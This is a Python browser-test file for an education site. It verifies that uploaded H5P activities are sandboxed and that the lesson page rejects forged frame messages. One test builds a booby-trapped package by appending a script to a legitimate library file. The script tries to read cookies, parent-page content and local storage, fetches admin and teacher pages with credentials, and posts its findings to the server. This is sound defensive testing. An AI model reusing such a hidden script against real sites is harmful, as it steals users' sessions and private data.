"""H5P activities are isolated from the site (courses.views.h5p, config/static/js/h5p-*.js): a
hostile package's code, played by a teacher or an administrator, reaches none of their data;
the lesson page drops messages that are not its frames' own; statements travel in batches and
a typed answer survives a reload made right after typing."""

import json
import re
import zipfile

import pytest
from django.core.signals import request_started
from django.urls import reverse
from playwright.sync_api import expect

from courses.models import ExerciseKind, H5PUserState, QuizAttempt, XAPIStatement
from tests.browser.conftest import needs_h5p_standalone, page_logged_in
from tests.conftest import h5p_fixture, wagtail_tree_ensure

pytestmark = pytest.mark.browser

SAVED = re.compile(r"Ton résultat est enregistré\s: \d+ sur \d+\.")
SECRET = "secret-du-site-42"

# Appended to the TrueFalse library's own script: everything an attacker would try, its
# findings written in its own page and sent to the server (/h5p-hostile-report/).
HOSTILE_JS = r"""
;(function () {
  var report = {};
  function note(key, get) {
    try { report[key] = String(get()); } catch (error) { report[key] = "refused: " + error.name; }
  }
  note("cookie", function () { return document.cookie; });
  note("parentDocument", function () { return window.parent.document.documentElement.outerHTML; });
  note("topLocation", function () { return window.top.location.href; });
  note("topCookie", function () { return window.top.document.cookie; });
  note("storage", function () { return window.localStorage.getItem("hc-secret"); });
  note("realStorage", function () {
    var own = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage");
    return own.get.call(window).getItem("hc-secret");
  });
  note("openerOrPopup", function () { return window.open("/") === null ? "blocked" : "opened"; });
  function read(url) {
    return fetch(url, { credentials: "include" }).then(function (response) {
      return response.text().then(function (text) {
        return response.status + " " + response.url + " " + text.slice(0, 5000);
      });
    }).catch(function (error) { return "refused: " + error.name; });
  }
  Promise.all([read("/api/classes/"), read("/admin/users/"), read("/suivi/classes/")])
    .then(function (texts) {
      report.apiClasses = texts[0];
      report.adminUsers = texts[1];
      report.teacherClasses = texts[2];
      document.documentElement.setAttribute("data-hostile-report", JSON.stringify(report));
      try { window.top.postMessage({ kind: "hostile", report: report }, "*"); } catch (e) {}
      return fetch("/h5p-hostile-report/", {
        method: "POST", credentials: "include", body: JSON.stringify(report)
      });
    }).catch(function () {});
})();
"""


def hostile_package(directory):
    """The hub's TrueFalse with an attacker's code appended to its library's script."""
    source = h5p_fixture("H5P.TrueFalse.h5p")
    target = directory / "hostile.h5p"
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as hostile:
        for info in original.infolist():
            data = original.read(info)
            if info.filename == "H5P.TrueFalse-1.6/scripts/h5p-true-false.js":
                data += HOSTILE_JS.encode()
            hostile.writestr(info, data)
    return target


@pytest.fixture
def requests_seen():
    """What the server received (path, cookies), recorded by the server itself."""
    seen = []

    def record(sender, environ=None, **kwargs):
        seen.append(
            {
                "path": environ.get("PATH_INFO", ""),
                "method": environ.get("REQUEST_METHOD"),
                "cookie": environ.get("HTTP_COOKIE", ""),
            }
        )

    request_started.connect(record)
    yield seen
    request_started.disconnect(record)


def _lesson(packages):
    from content.seeding import SeedReport, site_structure_ensure
    from tests.courses.factories import course_create, h5p_block, lesson_create

    wagtail_tree_ensure()
    index = site_structure_ensure(report=SeedReport())
    course = course_create(parent=index)
    return lesson_create(
        course=course,
        body=[h5p_block(package=package, title=title) for title, package in packages],
    )


def _ready(page, activity):
    expect(page.locator(f"#h5p-player-{activity}[data-h5p-ready='true']")).to_be_attached(
        timeout=20_000
    )


def _frame(page, activity):
    return page.frame_locator(f"#h5p-player-{activity} iframe")


def _player_frame(page, activity):
    return next(f for f in page.frames if "/h5p/lecteur/" in f.url and activity in f.url)


@pytest.fixture
def hostile_world(transactional_db, settings, tmp_path):
    needs_h5p_standalone()
    from courses.services import assignment_create
    from tests.courses.factories import h5p_package_upload
    from tests.school.factories import (
        admin_create,
        classroom_create,
        pupil_create,
        school_create,
        teacher_create,
    )

    settings.HEMICYCLE_H5P_SAVE_SECONDS = 1
    package = h5p_package_upload(path=hostile_package(tmp_path), title="Oslo")
    lesson = _lesson([("Activité piégée", package)])
    school = school_create(name="Lycée français de Rome", country="IT")
    teacher = teacher_create(school=school)
    classroom = classroom_create(teacher=teacher, school=school, name="2nde piégée")
    pupil = pupil_create(classroom=classroom)
    assignment_create(classroom=classroom, teacher=teacher, lesson=lesson)
    admin = admin_create(is_superuser=True, is_staff=True)
    return {
        "lesson": lesson,
        "activity": lesson.h5p_activity_ids()[0],
        "package": package,
        "pupil": pupil.user,
        "teacher": teacher,
        "admin": admin,
        "classroom": classroom,
    }


@pytest.mark.parametrize("role", ["pupil", "teacher", "admin"])
def test_hostile_package_reaches_nothing_and_still_plays(
    hostile_world, requests_seen, new_page, live_server, role
):
    # The world first: its database is flushed after the browser is closed, not under it.
    world = hostile_world
    user = world[role]
    page = page_logged_in(new_page, live_server, user)
    # Something of the site's own in its storage, that the package must not read.
    page.goto("/")
    page.evaluate(f"localStorage.setItem('hc-secret', '{SECRET}')")
    page.goto(world["lesson"].url)
    _ready(page, world["activity"])
    assert page.content().count(str(world["package"].content_key)) >= 1

    frame = _player_frame(page, world["activity"])
    frame.wait_for_function("document.documentElement.hasAttribute('data-hostile-report')")
    report = json.loads(frame.evaluate("document.documentElement.dataset.hostileReport"))

    # Nothing of the site: no cookie, no parent page, no storage, no popup.
    assert report["cookie"] in ("", "refused: SecurityError")
    assert report["parentDocument"].startswith("refused: SecurityError")
    assert report["topCookie"].startswith("refused: SecurityError")
    assert report["topLocation"].startswith("refused: SecurityError")
    assert report["storage"] in ("null", "refused: SecurityError")
    assert report["realStorage"].startswith("refused")
    assert report["openerOrPopup"] in ("blocked", "refused: SecurityError")
    everything = json.dumps(report)
    assert SECRET not in everything
    assert world["classroom"].join_code not in everything
    assert user.username not in everything
    # The API refused an anonymous caller; the admin and the teacher's pages asked for a login.
    # Cross-origin reads: refused by the browser (no CORS for the opaque origin), or at best
    # an anonymous answer (a refusal, a login page).
    for key in ("apiClasses", "adminUsers", "teacherClasses"):
        assert report[key] == "refused: TypeError" or report[key].startswith(
            ("401", "403", "200 " + live_server.url + "/admin/login/")
        ), report[key][:300]
    assert "data-hostile" not in page.content()

    # Server side: every request the frame made came without the user's session.
    from_frame = [
        r
        for r in requests_seen
        if r["path"]
        in ("/api/classes/", "/admin/users/", "/suivi/classes/", "/h5p-hostile-report/")
        or r["path"].startswith("/h5p/contenus/")
    ]
    assert {r["path"] for r in from_frame} >= {"/api/classes/", "/admin/users/"}
    assert all("sessionid" not in r["cookie"] for r in from_frame), from_frame
    assert all("csrftoken" not in r["cookie"] for r in from_frame), from_frame

    # The activity still plays and scores. The lesson page records the pupil's result; a
    # teacher's or an administrator's try is acknowledged as a preview and never counted.
    activity = _frame(page, world["activity"])
    activity.get_by_role("radio", name="Yes").click()
    activity.get_by_role("button", name="Check").click()
    status = page.locator(f"#h5p-{world['activity']} [data-h5p-status]")
    if role == "pupil":
        expect(status).to_have_text(SAVED)
        attempt = QuizAttempt.objects.get(user=user, kind=ExerciseKind.H5P)
        assert attempt.quiz_id == world["activity"] and attempt.score == 1
    else:
        expect(status).to_have_text(re.compile(r"^Aperçu\s: 1 sur 1\. Seuls les résultats"))
        assert not QuizAttempt.objects.filter(user=user).exists()


@pytest.fixture
def pupil_world(transactional_db, settings):
    needs_h5p_standalone()
    from courses.services import assignment_create
    from tests.courses.factories import h5p_package_upload
    from tests.courses.progress_factories import classroom_with_pupils
    from tests.school.factories import school_create, teacher_create

    settings.HEMICYCLE_H5P_SAVE_SECONDS = 1
    true_false = h5p_package_upload(path=h5p_fixture("H5P.TrueFalse.h5p"), title="Oslo")
    blanks = h5p_package_upload(path=h5p_fixture("H5P.Blanks.h5p"), title="Baies")
    lesson = _lesson([("Vrai ou faux", true_false), ("Texte à trous", blanks)])
    school = school_create(name="Lycée français de Lisbonne", country="PT")
    teacher = teacher_create(school=school)
    classroom, (pupil,) = classroom_with_pupils(teacher=teacher, school=school, pupils=1)
    assignment_create(classroom=classroom, teacher=teacher, lesson=lesson)
    true_false_id, blanks_id = lesson.h5p_activity_ids()
    return {"lesson": lesson, "pupil": pupil, "true_false": true_false_id, "blanks": blanks_id}


def test_lesson_page_drops_messages_not_from_its_frames(pupil_world, new_page, live_server):
    world = pupil_world
    page = page_logged_in(new_page, live_server, world["pupil"].user)
    page.goto(world["lesson"].url)
    _ready(page, world["true_false"])
    _ready(page, world["blanks"])
    iri = page.locator(f"#h5p-player-{world['true_false']}").get_attribute("data-xapi-iri")
    other_iri = page.locator(f"#h5p-player-{world['blanks']}").get_attribute("data-xapi-iri")
    statement = {
        "verb": {"id": "http://adlnet.gov/expapi/verbs/answered"},
        "object": {"id": iri, "objectType": "Activity"},
        "result": {"score": {"min": 0, "raw": 1, "max": 1, "scaled": 1}, "completion": True},
    }
    foreign = {**statement, "object": {"id": other_iri, "objectType": "Activity"}}
    mine = world["true_false"]
    refused = [
        {"kind": "evil", "activity": mine, "statement": statement},
        {"kind": "statement", "activity": world["blanks"], "statement": statement},
        {"kind": "statement", "activity": mine, "statement": foreign},
        {"kind": "statement", "activity": mine, "statement": statement, "pad": "x" * 300_000},
        {"kind": "statement", "activity": mine, "statement": {"verb": "answered"}},
        {"kind": "resize", "activity": mine, "height": "99999"},
        "statement",
    ]
    frame = _player_frame(page, mine)
    frame.evaluate("(messages) => messages.forEach(m => parent.postMessage(m, '*'))", refused)
    # From another window: the lesson page itself, a right-looking message.
    page.evaluate(
        "(m) => window.postMessage(m, '*')",
        {"kind": "statement", "activity": mine, "statement": statement},
    )
    # The one message that counts: the frame's own, a score of 0 out of 1.
    good = {**statement, "result": {"score": {"min": 0, "raw": 0, "max": 1, "scaled": 0}}}
    frame.evaluate(
        "(m) => parent.postMessage(m, '*')",
        {"kind": "statement", "activity": mine, "statement": good},
    )
    expect(page.locator(f"#h5p-player-{mine}")).to_have_attribute(
        "data-h5p-dropped", str(len(refused))
    )
    expect(page.locator(f"#h5p-{mine} [data-h5p-status]")).to_have_text(SAVED)
    page.wait_for_timeout(1000)
    attempts = QuizAttempt.objects.filter(user=world["pupil"].user, kind=ExerciseKind.H5P)
    assert [(a.quiz_id, a.score) for a in attempts] == [(mine, 0)]
    height = page.locator(f"#h5p-player-{mine} iframe").evaluate("f => f.offsetHeight")
    assert height < 5000


def test_statements_batched_and_typed_answer_kept_on_leaving(
    pupil_world, requests_seen, settings, new_page, live_server
):
    world = pupil_world
    # Nothing is sent before the page is left: only the keepalive flush can save them.
    settings.HEMICYCLE_H5P_STATE_DELAY_MS = 600_000
    settings.HEMICYCLE_XAPI_BATCH_MS = 600_000
    settings.HEMICYCLE_H5P_SAVE_SECONDS = 600
    page = page_logged_in(new_page, live_server, world["pupil"].user)
    page.goto(world["lesson"].url)
    _ready(page, world["true_false"])
    _ready(page, world["blanks"])
    true_false = _frame(page, world["true_false"])
    true_false.get_by_role("radio", name="Yes").click()
    true_false.get_by_role("button", name="Check").click()
    blanks = _frame(page, world["blanks"])
    fields = blanks.locator("input.h5p-text-input")
    fields.nth(0).fill("blue")
    fields.nth(1).fill("Cloud")
    fields.nth(2).fill("noir")
    fields.nth(2).press("Tab")  # the package checks each blank as it is left (autoCheck)
    player = page.locator(f"#h5p-player-{world['blanks']}")
    expect(player).to_have_attribute("data-h5p-pending", "true")
    xapi = reverse("courses_api:xapi-statements")
    assert not [r for r in requests_seen if r["path"] == xapi]  # waiting for the batch
    page.reload()

    # One request, sent as the page went, carried both activities' statements.
    _ready(page, world["blanks"])
    assert [r["method"] for r in requests_seen if r["path"] == xapi] == ["POST"]
    kept = XAPIStatement.objects.filter(user=world["pupil"].user)
    assert {s.activity_id for s in kept} == {world["true_false"], world["blanks"]}
    scores = dict(
        QuizAttempt.objects.filter(user=world["pupil"].user).values_list("quiz_id", "score")
    )
    assert scores == {world["true_false"]: 1, world["blanks"]: 2}
    # The typed answers, saved with keepalive, come back in the activity (a second visit:
    # the reload's own request may have raced the keepalive one).
    state = H5PUserState.objects.get(user=world["pupil"].user, activity_id=world["blanks"])
    assert "Cloud" in state.data
    page.reload()
    _ready(page, world["blanks"])
    expect(_frame(page, world["blanks"]).locator("input.h5p-text-input").nth(1)).to_have_value(
        "Cloud"
    )


def test_lost_connection_is_retried_and_a_refusal_is_told(pupil_world, new_page, live_server):
    world = pupil_world
    page = page_logged_in(new_page, live_server, world["pupil"].user)
    calls = []

    def first_lost(route):
        calls.append("lost" if not calls else "sent")
        if len(calls) == 1:
            route.abort("internetdisconnected")
        else:
            route.continue_()

    page.route("**/api/xapi/statements/", first_lost)
    page.goto(world["lesson"].url)
    _ready(page, world["true_false"])
    status = page.locator(f"#h5p-{world['true_false']} [data-h5p-status]")
    true_false = _frame(page, world["true_false"])
    true_false.get_by_role("radio", name="Yes").click()
    true_false.get_by_role("button", name="Check").click()
    expect(status).to_have_text(re.compile("Connexion perdue"))
    # Sent again after a second, with the same statement ids: counted once, and said so.
    expect(status).to_have_text(SAVED)
    assert calls == ["lost", "sent"]
    assert QuizAttempt.objects.filter(user=world["pupil"].user).count() == 1

    # A refusal (4xx) shows the server's reason, and is not sent again.
    refusals = []

    def refuse(route):
        refusals.append(route.request.post_data)
        route.fulfill(
            status=400,
            content_type="application/json",
            body=json.dumps({"detail": "Déclaration refusée pour le test."}),
        )

    page.unroute("**/api/xapi/statements/")
    page.route("**/api/xapi/statements/", refuse)
    iri = page.locator(f"#h5p-player-{world['true_false']}").get_attribute("data-xapi-iri")
    statement = {
        "verb": {"id": "http://adlnet.gov/expapi/verbs/answered"},
        "object": {"id": iri, "objectType": "Activity"},
        "result": {"score": {"min": 0, "raw": 0, "max": 1}},
    }
    _player_frame(page, world["true_false"]).evaluate(
        "(m) => parent.postMessage(m, '*')",
        {"kind": "statement", "activity": world["true_false"], "statement": statement},
    )
    expect(status).to_have_text(
        "Ton résultat n'a pas pu être enregistré : Déclaration refusée pour le test."
    )
    page.wait_for_timeout(2500)
    assert len(refusals) == 1
    assert QuizAttempt.objects.filter(user=world["pupil"].user).count() == 1
